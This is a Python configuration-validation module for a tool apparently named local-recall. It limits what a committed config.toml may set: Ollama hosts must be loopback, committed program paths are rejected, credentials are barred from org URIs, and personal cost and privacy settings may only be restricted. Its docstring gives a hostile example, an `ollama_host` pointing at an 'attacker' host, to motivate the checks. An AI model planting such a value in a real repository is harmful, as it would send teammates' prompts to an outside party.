"""What a committed config.toml may decide, and where a user's own config lives.

The repository's `local-recall/config.toml` is written by whoever can push. Most keys only tune
behaviour, but a few decide where prompts and memories go or which program runs: a committed
`[embedder] ollama_host = "http://attacker:11434"` would make every teammate's hooks send each
prompt there, a committed `claude_path` would run the attacker's program. Those keys are
*machine keys*: the committed file may only name this machine (a loopback host) or nothing at
all; anything else comes from the user — the environment (`OLLAMA_HOST`,
`LOCAL_RECALL_<SECTION>_<KEY>`) or the user config `~/.config/local-recall/config.toml`.

A few more decide things that are each person's own: whether Claude's verbatim
reasoning is captured (`[thinking] enabled`), and what extraction spends (`model`, the daily
limits, retries, whether extraction and summaries call the model at all). Those are *personal
keys*: a committed value may make things more private or cheaper than they would be without
it (turn capture off, lower a cap), never the reverse; the rest comes from the user.
Pure: no file is read here. Light: the hooks import it on every prompt.
"""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path

USER_CONFIG_NAME = "config.toml"
# (section, key) -> what the committed file may hold: "loopback" (a URL on this machine) or
# "never" (only the user's environment or user config may set it).
MACHINE_KEYS: dict[tuple[str, str], str] = {
    ("embedder", "ollama_host"): "loopback",
    ("extraction", "claude_path"): "never",
    # where the org index lives may be shared by the team, how to sign in never (docs/org.md)
    ("org", "uri"): "no-credentials",
    ("extraction", "cli_path"): "never",  # the codex / gemini extractor's program
}


# (section, key) -> how a committed value may differ from the value that applies without it
# (defaults, then the user config): "off" (a bool: may turn it off, not on), "lower" (a limit
# where 0 means none: may lower it, not raise or lift it), ("ollama", "claude") (an order from
# cheaper to dearer: may move left) or "never" (the user chooses it: only equal is accepted).
PERSONAL_KEYS: dict[tuple[str, str], str | tuple[str, ...]] = {
    ("thinking", "enabled"): "off",  # captures verbatim reasoning into the repository
    ("extraction", "enabled"): "off",  # sends transcripts to the model, paid per token
    ("summaries", "enabled"): "off",  # one more model call per session
    ("extraction", "extractor"): ("ollama", "claude"),
    ("extraction", "model"): "never",
    ("extraction", "daily_max_calls"): "lower",
    ("extraction", "daily_max_tokens"): "lower",
    ("extraction", "max_attempts"): "lower",
}
_USER_PLACES = (
    "set it in your user config (~/.config/local-recall/config.toml) "
    "or the environment (LOCAL_RECALL_{name})"
)


def committed_personal_problem(
    section: str, key: str, value: object, current: object
) -> str | None:
    """Why a committed value of a personal key is not applied over `current` (the value from
    the defaults and the user config), or None when it only restricts."""
    rule = PERSONAL_KEYS.get((section, key))
    if rule is None or value == current or _restricts(rule, value, current):
        return None
    where = _USER_PLACES.format(name=f"{section.upper()}_{key.upper()}")
    if rule == "off":
        return f"a committed config may not turn this on for everyone; {where}"
    if rule == "lower":
        return f"a committed config may lower this limit, not raise or lift it; {where}"
    return f"each user chooses what extraction costs; {where}"


def _restricts(rule: str | tuple[str, ...], value: object, current: object) -> bool:
    if rule == "off":
        return value is False
    if rule == "lower":  # 0 means no limit
        if not isinstance(value, int) or not isinstance(current, int):
            return False
        return value > 0 and (current == 0 or value < current)
    if isinstance(rule, tuple):  # cheaper to dearer
        return value in rule and current in rule and rule.index(value) < rule.index(current)
    return False


def user_config_path(environ: Mapping[str, str]) -> Path:
    """$LOCAL_RECALL_CONFIG_DIR/config.toml, else $XDG_CONFIG_HOME/local-recall/config.toml,
    else ~/.config/local-recall/config.toml."""
    explicit = environ.get("LOCAL_RECALL_CONFIG_DIR")
    if explicit:
        return Path(explicit).expanduser() / USER_CONFIG_NAME
    xdg = environ.get("XDG_CONFIG_HOME")
    if xdg and os.path.isabs(xdg):
        return Path(xdg) / "local-recall" / USER_CONFIG_NAME
    home = environ.get("HOME") or os.path.expanduser("~")
    return Path(home) / ".config" / "local-recall" / USER_CONFIG_NAME


def is_loopback_url(value: str) -> bool:
    """A host URL (`http://127.0.0.1:11434`, `localhost:11434`, `[::1]`) naming this machine."""
    import ipaddress  # lazily: the hooks import this module on every prompt
    from urllib.parse import urlsplit

    text = value.strip()
    try:
        host = urlsplit(text if "://" in text else "http://" + text).hostname
    except ValueError:
        return False
    if not host:
        return False
    if host.lower() == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


NO_SECRETS = (
    "credentials come from the environment (AWS_ACCESS_KEY_ID, ...) or the store's own "
    "config files, never the org URI (docs/org.md#setup)"
)
# Query parameters a LanceDB URI may carry that are not secrets (s3+ddb://bucket/p?ddbTableName=t)
_URI_PARAMETERS = frozenset({"ddbtablename"})


def credentials_in_uri(uri: str) -> str | None:
    """What in an object-store URI looks like a credential (a user or password before the
    host, a query parameter other than the known harmless ones), or None."""
    from urllib.parse import parse_qsl, urlsplit

    try:
        parts = urlsplit(uri.strip())
    except ValueError:
        return "an unparsable URL"
    # A secret key may hold a `/` (AWS's often do): `s3://KEY:abc/def@bucket` has no `@` in its
    # netloc, so an `@` anywhere before the query counts.
    if "@" in parts.netloc or "@" in uri.partition("?")[0].partition("://")[2]:
        return "a user name or password"
    unknown = [k for k, _ in parse_qsl(parts.query, keep_blank_values=True)]
    unknown = [k for k in unknown if k.lower() not in _URI_PARAMETERS]
    if unknown or (parts.query and not parse_qsl(parts.query, keep_blank_values=True)):
        return "query parameters (" + ", ".join(unknown or [parts.query[:20]]) + ")"
    return None


def committed_value_problem(section: str, key: str, value: object) -> str | None:
    """Why the committed config may not hold this value, or None when it may."""
    rule = MACHINE_KEYS.get((section, key))
    if rule is None or value in ("", None):
        return None
    where = (
        f"set it in your own environment (LOCAL_RECALL_{section.upper()}_{key.upper()}) "
        "or in ~/.config/local-recall/config.toml"
    )
    if rule == "no-credentials":
        found = credentials_in_uri(str(value))
        if found is None:
            return None
        return f"the org URI holds {found}; {NO_SECRETS}"
    if rule == "loopback":
        if isinstance(value, str) and is_loopback_url(value):
            return None
        return (
            f"{value!r} is not on this machine: a committed config may only name a "
            f"loopback host; {where}"
        )
    return f"a committed config may not choose a program to run; {where}"
